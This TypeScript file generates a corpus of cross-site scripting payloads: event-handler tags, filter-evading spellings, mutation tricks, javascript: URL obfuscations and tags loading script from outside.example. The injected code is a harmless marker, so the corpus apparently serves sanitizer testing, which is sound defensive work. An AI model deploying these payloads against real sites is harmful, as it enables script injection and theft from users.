// Markup that tries to run a script or to send a request, combined from known browser exploits.

const RUN = 'window.__ran=1';
const OUTSIDE = 'https://outside.example';

const ELEMENTS_WITH_EVENTS: readonly [element: string, event: string][] = [
  ['img src=x', 'onerror'],
  ['img src=/favicon.svg', 'onload'],
  ['svg', 'onload'],
  ['svg/', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['video autoplay src=x', 'onloadstart'],
  ['audio src=x', 'onerror'],
  ['marquee', 'onstart'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['p style="animation:x 1s"', 'onanimationstart'],
  ['p tabindex=0 autofocus', 'onfocusin'],
  ['x contenteditable autofocus', 'onfocus'],
  ['math tabindex=0 autofocus', 'onfocus'],
];

/** Spellings of the same tag that a careless filter parses differently from a browser. */
const SPELLINGS: readonly ((tag: string, handler: string) => string)[] = [
  (tag, handler) => `<${tag} ${handler}="${RUN}">`,
  (tag, handler) => `<${tag.toUpperCase()} ${handler.toUpperCase()}=${RUN}>`,
  (tag, handler) => `<${tag}\n${handler}\n=\n'${RUN}'>`,
  (tag, handler) => `<${tag} ${handler}=&#119;indow.__ran=1>`,
  (tag, handler) => `"><${tag} ${handler}="${RUN}"><!--`,
  (tag, handler) => `<p title="</p><${tag} ${handler}='${RUN}'>">`,
  (tag, handler) => `<noscript><p title="</noscript><${tag} ${handler}=${RUN}>"></noscript>`,
  (tag, handler) => `<math><mtext><table><mglyph><style><!--</style><${tag} ${handler}=${RUN}>`,
];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${OUTSIDE}/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${RUN}>`,
  `<svg><foreignObject><script>${RUN}</script></foreignObject></svg>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<template><script>${RUN}</script></template>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `//outside.example/x`,
  `${OUTSIDE}/x`,
  `\\\\outside.example\\x`,
];
const WITH_ADDRESS: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}" autofocus>x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<img src="${address}">`,
  (address) => `<form action="${address}"><button autofocus>x</button></form>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<p style="background:url('${address}')">x</p>`,
  (address) => `<style>@import "${address}";</style>`,
  (address) => `<video poster="${address}"></video>`,
  (address) => `<svg><image href="${address}"/></svg>`,
];

export const CORPUS: readonly string[] = [
  ...ELEMENTS_WITH_EVENTS.flatMap(([tag, event]) => SPELLINGS.map((spell) => spell(tag, event))),
  ...SCRIPTS,
  ...ADDRESSES.flatMap((address) => WITH_ADDRESS.map((wrap) => wrap(address))),
];

/** The corpus split into texts of at most this length. */
export const inPieces = (most: number): string[] => {
  const pieces: string[] = [];
  for (const one of CORPUS) {
    const last = pieces.at(-1);
    if (last !== undefined && last.length + one.length < most) pieces[pieces.length - 1] = last + one;
    else pieces.push(one.slice(0, most));
  }
  return pieces;
};
